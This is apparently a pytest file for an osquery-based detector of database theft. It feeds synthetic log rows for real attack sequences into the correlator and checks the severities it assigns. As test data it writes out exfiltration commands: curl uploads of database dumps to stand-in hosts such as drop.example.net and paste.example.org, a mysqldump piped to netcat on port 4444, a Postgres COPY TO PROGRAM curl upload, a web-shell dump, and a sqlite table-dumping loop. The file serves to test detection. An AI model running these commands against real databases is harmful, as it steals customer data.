"""Issue 13: detection against real tradecraft and real osquery output.

Each test builds the rows osquery logs for a real command sequence (the pack's
columns, as tests/correlate_scenarios/make_scenarios.py writes them), runs
`osq-dbwatch correlate` on them in-process and judges the findings.
"""

from __future__ import annotations

import json
import os
from typing import Any

from correlate_scenarios.helpers import correlate, final_by_chain, reason_codes
from correlate_scenarios.make_scenarios import D, H, MON, NO_AUID, Log

from osq_dbwatch.config import CorrelatorSettings
from osq_dbwatch.correlate import baseline as B

CONFIG = """\
admins:
  groups: [dba]
service_accounts: [backup]
allow:
  - user: www-data
    tool: mysqldump
    parent: /usr/sbin/php-fpm8.2
    cmdline: "mysqldump --single-transaction -u wp wordpress -r /var/backups/wp/*"
internal_networks: [10.0.0.0/8]
correlator:
  baseline_min_observations: 3
  baseline_novel_after: 1d
"""

EVE = 1001


def run(tmp_path: Any, log: Log) -> list[dict[str, Any]]:
    path = tmp_path / "osqueryd.results.log"
    path.write_text("\n".join(log.lines) + "\n")
    config = tmp_path / "config.yml"
    config.write_text(CONFIG)
    return correlate(["--config", str(config), str(path)], str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))


def chains_of(findings: list[dict[str, Any]], user: str) -> list[dict[str, Any]]:
    finals = final_by_chain(findings)
    return sorted((f for f in finals.values() if f["actor"]["user"]["name"] == user),
                  key=lambda f: f["finding_info"]["first_seen_time"])


def file_update(log: Log, host: str, t: int, path: str, owner: str, uid: int, size: int, action: str,
                inode: int) -> None:
    """A dump_file_events row as inotify sends it (CREATED with 0 bytes, then several UPDATED)."""
    log.event("dump_file_events", host, t, {"action": action, "inode": inode, "owner": owner, "sha256": "",
                                            "size": size, "target_path": path, "time": t, "uid": uid})


def art_sqlite_payload(log: Log, host: str, t: int) -> None:
    """Atomic Red Team T1005 "Find and dump sqlite databases (Linux)": the payload download, then sqlite3
    seven times in the same second (two listings, one SELECT per table), all from the atomic's bash."""
    log.transfer(host, t, "eve", EVE, "curl -sO https://raw.githubusercontent.com/redcanaryco/atomic-red-team/"
                 "master/atomics/T1005/src/art.db", "/usr/bin/curl", 4100, cwd="/home/eve")
    log.egress(host, t, 4100, "/usr/bin/curl", "185.199.108.133", 443, "eve", EVE)
    runs = ["sqlite3 art.db .tables", "sqlite3 art.db .tables", "sqlite3 art.db SELECT * FROM users;",
            "sqlite3 art.db SELECT * FROM cards;", "sqlite3 art.db SELECT * FROM orders;",
            "sqlite3 art.db SELECT * FROM sessions;", "sqlite3 art.db SELECT * FROM tokens;"]
    for i, cmd in enumerate(runs):
        log.db_exec(host, t, "eve", EVE, cmd, "/usr/bin/sqlite3", 4101 + 2 * i, "/usr/bin/bash",
                    "bash -c cd $HOME; for t in $(sqlite3 art.db .tables); do sqlite3 art.db \"SELECT * FROM $t;\" "
                    ">> /home/eve/art_dump.sql; done", cwd="/home/eve")


# -- item 5: the baseline --------------------------------------------------------


def test_art_sqlite_burst_is_not_its_own_habit(tmp_path) -> None:
    """Seven sqlite3 runs in one second, a dump and an upload: high, with no baseline-habitual."""
    log = Log()
    host, t = "dev-3", MON + 1 * D + 14 * H
    # eve's earlier days on this host: the learning period has passed (nothing of hers is habitual).
    log.db_exec(host, MON + 10 * H, "eve", EVE, "psql -d app", "/usr/bin/psql", 3000, "/usr/bin/bash", "-bash")
    art_sqlite_payload(log, host, t)
    path = "/home/eve/art_dump.sql"
    file_update(log, host, t + 1, path, "eve", EVE, 0, "CREATED", 77)
    file_update(log, host, t + 1, path, "eve", EVE, 40960, "UPDATED", 77)
    file_update(log, host, t + 2, path, "eve", EVE, 81234, "UPDATED", 77)
    log.transfer(host, t + 40, "eve", EVE, f"curl -s -T {path} https://drop.example.net/u", "/usr/bin/curl", 4200,
                 cwd="/home/eve")
    log.egress(host, t + 41, 4200, "/usr/bin/curl", "203.0.113.50", 443, "eve", EVE)
    found = chains_of(run(tmp_path, log), "eve")
    art = found[-1]
    assert art["severity_id"] >= 4, art["unmapped"]["reasons"]
    assert "baseline-habitual" not in reason_codes(art)
    assert "egress-after-dump" in reason_codes(art)
    sizes = [e["file"]["size"] for e in art["evidences"] if "file" in e]
    assert sizes == [81234]


def test_download_in_the_same_second_before_the_access_is_not_egress(tmp_path) -> None:
    """The payload download (a lower pid, the same second) comes before the access: low, not egress-after-access."""
    log = Log()
    art_sqlite_payload(log, "dev-4", MON + 2 * D + 9 * H)
    (art,) = chains_of(run(tmp_path, log), "eve")
    assert art["severity_id"] == 2, art["unmapped"]["reasons"]
    assert "egress-after-access" not in reason_codes(art)
    assert art["unmapped"]["stages"] == ["access"]


def test_a_web_shell_full_chain_stays_critical_when_habitual(tmp_path) -> None:
    """The WordPress backup plugin runs mysqldump from php-fpm Mondays at 14:00 (allowed, learned); a web shell's
    mysqldump at 14:20 is habitual by (user, tool, parent, hour) but stays critical, the contract's floor."""
    log = Log()
    host = "web-9"
    for day in range(0, 28, 7):
        t = MON + day * D + 14 * H
        log.db_exec(host, t, "www-data", 33, f"mysqldump --single-transaction -u wp wordpress -r "
                    f"/var/backups/wp/wp-{day}.sql", "/usr/bin/mysqldump", 6000 + day, "/usr/sbin/php-fpm8.2",
                    "php-fpm: pool www", session=False, cwd="/var/www/html")
    t = MON + 28 * D + 14 * H + 20 * 60
    log.db_exec(host, t, "www-data", 33, "mysqldump -u wp wordpress", "/usr/bin/mysqldump", 7001,
                "/usr/sbin/php-fpm8.2", "php-fpm: pool www", session=False, cwd="/var/www/html")
    log.dump_file(host, t + 2, "/var/www/html/wp-content/uploads/db.sql", "www-data", 33)
    log.transfer(host, t + 30, "www-data", 33, "curl -F f=@/var/www/html/wp-content/uploads/db.sql "
                 "https://paste.example.org/up", "/usr/bin/curl", 7010, session=False, cwd="/var/www/html")
    log.egress(host, t + 31, 7010, "/usr/bin/curl", "198.51.100.23", 443)
    (shell,) = chains_of(run(tmp_path, log), "www-data")
    assert shell["severity_id"] == 5, shell["unmapped"]["reasons"]
    assert "baseline-habitual" in reason_codes(shell), shell["unmapped"]["reasons"]


def test_baseline_counts_days_not_runs_and_waits_for_its_learning_period() -> None:
    settings = CorrelatorSettings(baseline_min_observations=3, baseline_novel_after_seconds=D)
    b = B.Baseline()
    t = MON + 10 * H
    for _ in range(7):
        B.learn(b, "eve", "sqlite3", "bash", t)
    run_key = B.SEP.join(("eve", "sqlite3", "bash", str(B.hour_of_week(t))))
    assert B.count_of(b.runs[run_key]) == 1
    # Seen before at this hour of the week, but the host is still within its learning period: not habitual.
    young = B.Baseline()
    B.learn(young, "eve", "sqlite3", "bash", t)
    assert B.judge(young, CorrelatorSettings(baseline_min_observations=1, baseline_novel_after_seconds=8 * D),
                   "eve", "sqlite3", "bash", t + 7 * D) == []
    assert B.judge(young, CorrelatorSettings(baseline_min_observations=1, baseline_novel_after_seconds=7 * D),
                   "eve", "sqlite3", "bash", t + 7 * D) == ["baseline-habitual"]
    # Deferred learning (the hot path) counts the same days.
    k = B.keys("eve", "sqlite3", "bash")
    deferred = B.Baseline()
    for _ in range(7):
        B.defer_keys(deferred, k, t)
    B.defer_keys(deferred, k, t + 7 * D)
    B.settle(deferred)
    assert B.count_of(deferred.runs[run_key]) == 2
    assert B.judge_keys(deferred, settings, k, t + 14 * D) == []


# -- item 6: short-lived parents ----------------------------------------------------


def test_an_exited_parent_is_unknown_not_automation(tmp_path) -> None:
    """The pty session ended before the minute's query ran: parent columns empty. Not `non-interactive`."""
    log = Log()
    log.event("db_cli_exec", "db-5", MON + 11 * H, {
        "auid": EVE, "cmdline": "psql -h db -U app shop", "cwd": "/home/eve", "euid": EVE, "login_user": "eve",
        "parent": 0, "parent_cmdline": "", "parent_path": "", "path": "/usr/bin/psql", "pid": 5100,
        "time": MON + 11 * H, "uid": EVE, "username": "eve"})
    (found,) = chains_of(run(tmp_path, log), "eve")
    assert found["severity_id"] == 2
    assert "non-interactive" not in reason_codes(found)
    assert "parent-unknown" in reason_codes(found)


# -- item 3: streamed dumps -----------------------------------------------------------


def pipeline(log: Log, host: str, t: int, dump: str, dump_path: str, send: str, send_path: str, ip: str,
             port: int, user: str = "eve", uid: int = EVE, shell: int = 5200, parent: tuple[str, str] = (
                 "/usr/bin/bash", "-bash"), session: bool = True) -> None:
    """`DUMP | SEND` typed at a shell: bash forks both (same parent pid, same second); the sender connects."""
    for query, cmd, path, pid in (("db_cli_exec", dump, dump_path, shell + 1), ("transfer_exec", send, send_path,
                                                                                shell + 2)):
        log.event(query, host, t, {
            "auid": uid if session else NO_AUID, "cmdline": cmd, "cwd": f"/home/{user}", "euid": uid,
            "login_user": user if session else "", "parent": shell,
            "parent_cmdline": parent[1], "parent_path": parent[0], "path": path, "pid": pid, "time": t, "uid": uid,
            "username": user})
    log.event("db_egress", host, t, {
        "auid": uid if session else NO_AUID, "family": 2, "login_user": user if session else "", "path": send_path,
        "pid": shell + 2, "remote_address": ip,
        "remote_port": port, "status": "in_progress", "success": 1, "time": t})


def test_streamed_dumps_are_the_full_chain(tmp_path) -> None:
    log = Log()
    t = MON + 1 * D + 15 * H
    pipeline(log, "db-6", t, "pg_dump shop", "/usr/bin/pg_dump", "curl -s -T - https://drop.example.net/s.sql",
             "/usr/bin/curl", "203.0.113.80", 443)
    pipeline(log, "db-7", t, "mysqldump shop", "/usr/bin/mariadb-dump", "nc 203.0.113.81 4444", "/usr/bin/nc.openbsd",
             "203.0.113.81", 4444)
    # The same commands as separate steps (other parents, minutes apart) are no pipeline: the ladder as before.
    log.db_exec("db-8", t, "eve", EVE, "pg_dump shop", "/usr/bin/pg_dump", 5301, "/usr/bin/bash", "-bash")
    log.transfer("db-8", t + 200, "eve", EVE, "curl -s -T - https://drop.example.net/s.sql", "/usr/bin/curl", 5400)
    findings = run(tmp_path, log)
    by_host = {f["device"]["hostname"]: f for f in final_by_chain(findings).values()}
    for host in ("db-6", "db-7"):
        f = by_host[host]
        assert f["severity_id"] == 4, (host, f["unmapped"]["reasons"])
        assert "streamed-dump" in reason_codes(f)
        assert f["unmapped"]["stages"] == ["access", "egress"]  # no file was written
        assert "streamed" in f["finding_info"]["title"]
        assert "dump-after-access" in reason_codes(f) and "egress-after-dump" in reason_codes(f)
    assert by_host["db-8"]["severity_id"] == 3
    assert "streamed-dump" not in reason_codes(by_host["db-8"])


def test_a_web_shells_streamed_dump_is_critical(tmp_path) -> None:
    log = Log()
    pipeline(log, "web-10", MON + 2 * D + 3 * H, "mysqldump -u wp wordpress", "/usr/bin/mysqldump",
             "curl -s -T - https://paste.example.org/u", "/usr/bin/curl", "198.51.100.23", 443, user="www-data",
             uid=33, parent=("/usr/bin/dash", "sh -c mysqldump -u wp wordpress | curl -s -T - https://paste.example.org/u"),
             session=False)
    (f,) = chains_of(run(tmp_path, log), "www-data")
    assert f["severity_id"] == 5, f["unmapped"]["reasons"]
    assert "streamed-dump" in reason_codes(f)


# -- item 2: the server exfiltrates for you ------------------------------------------------


COPY = "psql postgresql://owner:S3cret@db/shop -c COPY customers TO PROGRAM 'curl -s -T - https://drop.example.net/c'"


def test_copy_to_program_with_a_transfer_tool_is_at_least_high(tmp_path) -> None:
    """What the shipped pack logs: the client's exec, then curl's connect with no login user and a pid no chain
    knows (transfer_exec drops the server's `sh -c curl`: no session)."""
    log = Log()
    t = MON + 1 * D + 16 * H
    log.db_exec("pg-12", t, "eve", EVE, COPY, "/usr/bin/psql", 5501, "/usr/bin/bash", "-bash")
    log.event("db_egress", "pg-12", t + 1, {
        "auid": NO_AUID, "family": 2, "login_user": "", "path": "/usr/bin/curl", "pid": 5507,
        "remote_address": "203.0.113.90", "remote_port": 443, "status": "in_progress", "success": 1, "time": t + 1})
    findings = run(tmp_path, log)
    (f,) = chains_of(findings, "eve")
    assert f["severity_id"] >= 4, f["unmapped"]["reasons"]
    assert "server-exfil" in reason_codes(f)
    assert "linked-by-program" in reason_codes(f)
    assert "egress" in f["unmapped"]["stages"]
    assert "S3cret" not in json.dumps(findings)


def test_a_transfer_tool_under_the_db_server_is_at_least_high(tmp_path) -> None:
    """`sh -c curl ...` as postgres, its parent a backend (dash execs curl: the backend is curl's parent)."""
    log = Log()
    t = MON + 1 * D + 17 * H
    log.event("transfer_exec", "pg-13", t, {
        "auid": NO_AUID, "cmdline": "curl -s -T - https://drop.example.net/c", "cwd": "/var/lib/postgresql/15/main",
        "euid": 113, "login_user": "", "parent": 4200, "parent_cmdline": "postgres: 15/main: owner shop [local] COPY",
        "parent_path": "/usr/lib/postgresql/15/bin/postgres", "path": "/usr/bin/curl", "pid": 5601, "time": t,
        "uid": 113, "username": "postgres"})
    log.egress("pg-13", t, 5601, "/usr/bin/curl", "203.0.113.91", 443)
    (f,) = chains_of(run(tmp_path, log), "postgres")
    assert f["severity_id"] >= 4, f["unmapped"]["reasons"]
    assert "server-exfil" in reason_codes(f)


# -- socket status ---------------------------------------------------------------------


def test_socket_status_in_progress_is_a_made_connect_and_failed_is_not(tmp_path) -> None:
    log = Log()
    t = MON + 1 * D + 18 * H
    for host, status, success in (("db-20", "in_progress", 1), ("db-21", "failed", 1), ("db-22", None, 1),
                                  ("db-23", None, 0), ("db-24", "succeeded", 1)):
        log.db_exec(host, t, "eve", EVE, "psql -d shop -c \\copy customers to '/home/eve/c.csv' csv", "/usr/bin/psql",
                    5701, "/usr/bin/bash", "-bash")
        log.dump_file(host, t + 1, "/home/eve/c.csv", "eve", EVE)
        columns = {"auid": EVE, "family": 2, "login_user": "eve", "path": "/usr/bin/python3", "pid": 5720,
                   "remote_address": "203.0.113.95", "remote_port": 443, "success": success, "time": t + 20}
        if status is not None:
            columns["status"] = status
        log.event("db_egress", host, t + 20, columns)
    by_host = {f["device"]["hostname"]: f for f in final_by_chain(run(tmp_path, log)).values()}
    assert {h: f["severity_id"] for h, f in by_host.items()} == {"db-20": 4, "db-21": 3, "db-22": 4, "db-23": 3,
                                                                  "db-24": 4}
    statuses = {h: [e["data"].get("connect_status") for e in f["evidences"] if "dst_endpoint" in e]
                for h, f in by_host.items()}
    assert statuses["db-20"] == ["in_progress"]
    assert statuses["db-24"] == ["succeeded"]
    assert statuses["db-22"] == [None]
